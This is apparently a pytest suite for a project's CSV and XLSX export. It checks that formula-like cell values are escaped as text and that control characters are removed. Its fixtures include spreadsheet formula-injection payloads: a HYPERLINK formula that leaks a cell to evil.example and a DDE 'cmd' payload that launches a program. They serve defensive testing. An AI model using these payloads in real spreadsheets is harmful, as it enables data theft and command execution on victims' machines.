"""CSV and XLSX exports are safe to open in a spreadsheet: a text that starts like a formula stays
text (never a live formula), and control characters that XLSX cannot hold do not break the export."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from hoshin.io.tables import TableSpec, read_table, spreadsheet_text, write_table
from hoshin.service.dashboard import table_csv
from support import Org

FORMULAS = {
    "I-F1": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "I-F2": "+1+cmd|' /C calc'!A0",
    "I-F3": "-2+3",
    "I-F4": "@SUM(1+1)",
    "I-F5": "\t=1+1",
}
# \x01 and \x0b are illegal in XLSX (XML 1.0); PostgreSQL stores them, unlike NUL (tested on SQLite).
CONTROL = {"I-C1": "Door seal\x01 with\x0b a bell", "I-C2": "\x1f=1+1 hidden behind a control character"}


@pytest.fixture
def hostile(org: Org) -> Org:
    texts = {**FORMULAS, **CONTROL}
    if org.store.dialect == "sqlite":
        texts["I-NUL"] = "A NUL\x00 in the middle"
    org.store.upsert("ideas", org.id, [{"id": key, "text": text} for key, text in texts.items()])
    return org


def _xlsx_rows(body: bytes, tmp_path: Path) -> list[tuple[object, ...]]:
    path = tmp_path / "ideas.xlsx"
    path.write_bytes(body)
    book = load_workbook(path)
    sheet = book.worksheets[0]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row), "a live formula"
    return list(sheet.iter_rows(values_only=True))


def test_xlsx_export_keeps_formulas_as_text_and_survives_control_characters(
    hostile: Org, tmp_path: Path
) -> None:
    response = hostile.client("viewer", how="token").get("/api/v1/export/ideas", params={"format": "xlsx"})
    assert response.status_code == 200, response.text
    rows = _xlsx_rows(response.content, tmp_path)
    texts = {row[0]: row[1] for row in rows[1:]}
    for key, text in FORMULAS.items():
        assert texts[key] == "'" + text
    assert texts["I-C1"] == "Door seal with a bell"
    assert texts["I-C2"] == "'=1+1 hidden behind a control character"
    if "I-NUL" in texts:
        assert texts["I-NUL"] == "A NUL in the middle"


def test_csv_export_neutralises_formulas_and_control_characters(hostile: Org) -> None:
    response = hostile.client("viewer", how="token").get("/api/v1/export/ideas", params={"format": "csv"})
    assert response.status_code == 200, response.text
    texts = {row["id"]: row["text"] for row in csv.DictReader(io.StringIO(response.text))}
    for key, text in FORMULAS.items():
        assert texts[key] == "'" + text
    assert texts["I-C1"] == "Door seal with a bell"
    assert "\x00" not in response.text


def test_export_then_import_gives_the_texts_back(tmp_path: Path) -> None:
    rows = [{"id": key, "text": text.strip()} for key, text in FORMULAS.items()]
    rows.append({"id": "I-Q", "text": "'quoted on purpose"})
    for fmt in ("csv", "xlsx"):
        path = tmp_path / f"round.{fmt}"
        write_table(rows, fmt, path)
        back = read_table(path, TableSpec(required=("id", "text")))
        assert back == rows, fmt


def test_numbers_and_plain_texts_are_left_alone() -> None:
    for value in ("Plain text", "-5", "+3.25", "1e-3", "", "a=b", "Ünïcode ✓"):
        assert spreadsheet_text(value) == value
    assert spreadsheet_text(-5.0) == -5.0
    assert spreadsheet_text("=1") == "'=1"
    assert spreadsheet_text("\r=1") == "'\r=1"


def test_dashboard_table_downloads_use_the_same_writer() -> None:
    dashboard = {"issues": [{"kind": "orphan", "record_id": "G-1", "title": "=cmd()", "detail": "@x\x00"}]}
    lines = table_csv(dashboard, "issues").splitlines()
    assert lines[1] == "orphan,G-1,'=cmd(),'@x"
